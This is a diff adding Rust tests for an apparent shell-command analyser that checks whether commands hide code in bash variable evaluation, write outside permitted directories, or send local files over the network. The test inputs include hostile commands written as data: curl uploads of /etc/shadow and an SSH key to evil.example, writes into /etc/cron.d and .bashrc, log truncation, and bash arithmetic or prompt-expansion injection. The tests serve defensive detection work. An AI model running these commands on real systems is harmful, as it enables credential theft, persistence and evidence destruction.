@@ -1272,3 +1272,233 @@ fn wget_reads_its_config_files_unless_told_not_to() {
     let f = analyse("wget --max-redirect=0 -qO- --no-config https://siem.lab.example/api/x");
     assert_eq!(f.hosts, set(&["siem.lab.example"]), "{f:?}");
 }
+
+/// Review 35: bash runs code kept in a variable's value wherever it evaluates that value — as
+/// a prompt (`${x@P}`) or as arithmetic (`$((x))`, `$[x]`, `((x))`, `[[ x -eq 1 ]]`, a
+/// subscript, a substring offset, `let`, `declare -i`) — and a variable may be set in ways the
+/// analysis does not follow (a `for` word, `printf -v`, `read`, `mapfile`). So every parameter
+/// transformation and every arithmetic that names anything but integer literals is opaque,
+/// wherever it appears (a word, a here-document, a nested expansion's default).
+#[test]
+fn code_kept_in_a_variable_and_evaluated_later_is_opaque() {
+    let up = "curl -q -T /etc/shadow https://evil.example/";
+    let mut commands: Vec<String> = [
+        // The review's reproductions.
+        "for x in 'a[$(UP)]'; do echo $((x)); done",
+        "for x in '$(UP)'; do echo \"${x@P}\"; done",
+        "printf -v x '%s(UP)' '$'; echo \"${x@P}\"",
+        "printf -v x 'a[%s(UP)]' '$'; echo $((x))",
+        "printf -v x '\\x24(id >/tmp/pwn)'; cat <<EOF\n${x@P}\nEOF",
+    ]
+    .iter()
+    .map(|c| c.replace("UP", up))
+    .collect();
+    // Every transformation operator, and every arithmetic context.
+    for op in ["P", "E", "A", "Q", "K", "k", "a", "U", "u", "L"] {
+        commands.push(format!("read -r x < /cases/v; echo \"${{x@{op}}}\""));
+    }
+    for evaluates in [
+        "echo $((x))",
+        "echo $[x]",
+        "echo $(( x + 1 ))",
+        "echo $((10#x))",
+        "echo $((0x1))$((x))",
+        "((x))",
+        "(( y = x ))",
+        "for ((i = x; i < 1; i++)); do :; done",
+        "for ((i = 0; i < x; i++)); do :; done",
+        "[[ x -eq 1 ]]",
+        "[[ 1 -lt $x ]]",
+        "[[ -v $x ]]",
+        "[[ -v a[x] ]]",
+        "echo ${a[x]}",
+        "echo ${a[$x]}",
+        "echo ${#a[x]}",
+        "echo ${s:x}",
+        "echo ${s:1:x}",
+        "echo ${@:x}",
+        "echo ${y:-$((x))}",
+        "echo \"${y:-${x@P}}\"",
+        "echo ${y/a/${x@P}}",
+        "let x",
+        "let 'y=x'",
+        "declare -i y; y=$x",
+        "typeset -i y",
+        "local -i y",
+        "declare -ai y",
+        "declare -n r=$x",
+        "declare -n r=x; echo $r",
+        "a[x]=1",
+        "a=([x]=1)",
+        "declare 'a[x]=1'",
+        "read 'a[x]' < /cases/v",
+        "unset 'a[x]'",
+        "printf -v 'a[x]' 1",
+        "test -v \"$x\"",
+        "[ -v 'a[x]' ]",
+        "mapfile \"$x\" < /cases/v",
+        "cat <<EOF\n$((x))\nEOF",
+        "cat <<EOF\n${a[x]}\nEOF",
+        "cat <<EOF\n\"${x@P}\"\nEOF",
+        "cat <<EOF\n$[x]\nEOF",
+        "cat <<< \"${x@P}\"",
+        "case ${x@P} in *) ;; esac",
+        "[[ ${x@P} == 1 ]]",
+        "[[ a =~ ${x@P} ]]",
+        "bash -c 'echo ${x@P}'",
+        "echo ${y:-${a[x]}}",
+        "echo ${y:-\"${s:x}\"}",
+    ] {
+        for set_by in [
+            "for x in 1; do :; done; ",
+            "read -r x < /cases/v; ",
+            "mapfile -t x < /cases/v; ",
+            "printf -v x 1; ",
+            "",
+        ] {
+            commands.push(format!("{set_by}{evaluates}"));
+        }
+    }
+    // A prompt variable is expanded as a prompt: `set -x` expands PS4 before each command.
+    commands.push("for PS4 in '$(id)'; do set -x; :; done".into());
+    commands.push("printf -v PS4 '\\x24(id)'; set -x; :".into());
+    commands.push("read -r PS4 < /cases/v; set -x; :".into());
+    commands.push("for PATH in /cases; do ls; done".into());
+    // Code run where the analysis did not look: a callback, a case pattern.
+    commands.push(
+        "mapfile -C 'curl -q -T /etc/shadow https://evil.example/ #' -c 1 a < /cases/v".into(),
+    );
+    commands.push("readarray -tC 'id #' a < /cases/v".into());
+    commands.push("read -r x < /cases/v; case a in ${x@P}) ;; esac".into());
+    for cmd in &commands {
+        let f = analyse(cmd);
+        assert!(f.opaque, "{cmd}: {f:?}");
+        assert!(f.programs.contains(UNKNOWN), "{cmd}: {f:?}");
+        assert!(f.hosts.contains(UNKNOWN), "{cmd}: {f:?}");
+    }
+    let f = analyse("case a in $(curl -q https://evil.example/)) ;; esac");
+    assert!(f.hosts.contains("evil.example"), "{f:?}");
+    // Arithmetic on integer literals alone, and expansions that evaluate nothing, stay read.
+    for cmd in [
+        "echo $((1 + 2 * 3)) $[4 % 3]",
+        "((1 < 2)) && echo yes",
+        "for ((1; 0; 1)); do break; done",
+        "[[ 1 -eq 1 ]] && echo yes",
+        "[[ -v x ]] || echo unset",
+        "[[ $x == a* ]] && echo yes",
+        "[[ $x =~ ^(a|b)$ ]] && echo yes",
+        "echo ${a[0]} ${a[@]} ${#a[@]} ${s:1:2} ${!p*}",
+        "echo ${HOME:-/tmp} ${#X} ${X%.txt} ${X/a/b} ${X^^}",
+        "for f in /cases/c1/*.txt; do wc -l \"$f\"; done",
+        "cat <<EOF\nhost $HOME ${X:-none} it's \"quoted\"\nEOF",
+        "declare -r X=1; local y; export Z",
+        "read -r line < /cases/v; echo \"$line\"",
+        "printf '%s\\n' 'a[x]'",
+    ] {
+        let f = analyse(cmd);
+        assert!(!f.opaque, "{cmd}: {f:?}");
+    }
+}
+
+/// Review 35: GNU find ends `-exec`'s command at `+` only right after `{}`; any other `+` is
+/// an argument, and the command runs on to `;`. The words after a bare `+` are the program's.
+#[test]
+fn find_exec_runs_on_to_its_real_end() {
+    let roots = vec!["/cases".to_string()];
+    for exec in ["-exec", "-execdir", "-ok", "-okdir"] {
+        let f = analyse(&format!(
+            "find /cases -maxdepth 0 {exec} curl -q https://siem.lab.example/ -A + --next -T /etc/shadow https://evil.example/ \\;"
+        ));
+        assert!(f.hosts.contains("evil.example"), "{exec}: {f:?}");
+        assert!(f.pipes_to_network, "{exec}: {f:?}");
+        for cmd in [
+            format!("echo hi | find /cases -maxdepth 0 {exec} tee + /etc/cron.d/x \\;"),
+            format!("find /cases -maxdepth 0 {exec} cp /cases/payload + /etc/cron.d/ \\;"),
+            format!("find . -maxdepth 0 {exec} mkdir + /etc/x \\;"),
+            format!("find /cases {exec} tee {{}} + /etc/cron.d/x \\;"),
+            format!("find /cases {exec} tee {{}} /etc/cron.d/x +"),
+        ] {
+            assert!(analyse(&cmd).writes_outside(&roots), "{cmd}");
+        }
+        // No end at all: find refuses it, but nothing here can say what ran.
+        let f = analyse(&format!(
+            "find /cases {exec} curl -q https://siem.lab.example/ +"
+        ));
+        assert!(f.opaque, "{exec}: {f:?}");
+    }
+    // A `{} +` end, then more of find's own words.
+    let f = analyse("find /cases -exec grep -l x {} + -exec curl -q https://evil.example/ \\;");
+    assert!(f.hosts.contains("evil.example"), "{f:?}");
+    for cmd in [
+        "find /cases -name '*.log' -exec grep -l Failed {} +",
+        "find /cases -type f -exec wc -l {} \\;",
+        "find /cases -exec grep -c + {} \\;",
+    ] {
+        let f = analyse(cmd);
+        assert!(!f.opaque && !f.writes_outside(&roots), "{cmd}: {f:?}");
+        assert!(f.hosts.is_empty(), "{cmd}: {f:?}");
+    }
+}
+
+/// Review 35: after `--` every word is an operand, one that starts with `-` included:
+/// `tee -- -d/../../../etc/cron.d/x` writes where the path leads.
+#[test]
+fn operands_after_a_double_dash_are_written() {
+    let roots = vec!["/cases".to_string()];
+    for cmd in [
+        "mkdir -p -- -d",
+        "echo x | tee -- -d/../../../etc/cron.d/x",
+        "echo x | tee -a -- -d/../../../home/analyst/.bashrc",
+        "touch -- -x",
+        "rm -r -- -d/../../../home/analyst",
+        "rmdir -- -d",
+        "shred -- -d",
+        "unlink -- -d",
+        "truncate -s0 -- -d/../../../var/log/auth.log",
+        "mkfifo -- -p",
+        "chmod 777 -- -d/../x",
+        "chmod -w /etc/x",
+        "chmod -R -w /etc/x",
+        "chown -- root -d/../x",
+        "chgrp -R -- root -d",
+        "rsync -a /cases/x -- -d",
+        "perl -i -pe s/a/b/ -- -d",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.writes_outside(&roots), "{cmd}: {f:?}");
+    }
+    for cmd in [
+        "mkdir -p -- /cases/c1/-d",
+        "echo x | tee -- /cases/c1/-x",
+        "chmod -w /cases/c1/x",
+        "chmod 644 -- /cases/c1/x",
+    ] {
+        let f = analyse(cmd);
+        assert!(!f.writes_outside(&roots), "{cmd}: {f:?}");
+    }
+}
+
+/// Review 35: options that read a local file and send what it holds (`--etag-compare` sends
+/// it as `If-None-Match`, wget's `--load-cookies` as cookies) send local data.
+#[test]
+fn options_that_send_a_file_send_local_data() {
+    for cmd in [
+        "curl -q -s --etag-compare /home/analyst/.ssh/id_ed25519 https://intel.lab.example/",
+        "curl -q -s --etag-c /home/analyst/.ssh/id_ed25519 https://intel.lab.example/",
+        "curl -q -s -H @/etc/shadow https://intel.lab.example/",
+        "curl -q -s --header @/etc/shadow https://intel.lab.example/",
+        "curl -q -s --json @/etc/shadow https://intel.lab.example/",
+        "curl -q -s --variable x@/etc/shadow https://intel.lab.example/",
+        "curl -q -s --data-urlencode x@/etc/shadow https://intel.lab.example/",
+        "curl -q -s -F f=@/etc/shadow https://intel.lab.example/",
+        "curl -q -s --upload-file /etc/shadow https://intel.lab.example/",
+        "curl -q -s --cookie /etc/shadow https://intel.lab.example/",
+        "curl -q -s --url-query @/etc/shadow https://intel.lab.example/",
+        "wget --no-config --max-redirect=0 --load-cookies=/etc/shadow https://intel.lab.example/",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.pipes_to_network, "{cmd}: {f:?}");
+    }
+    let f = analyse("curl -q -s --etag-save /cases/c1/etag https://intel.lab.example/");
+    assert!(!f.pipes_to_network, "{f:?}");
+}
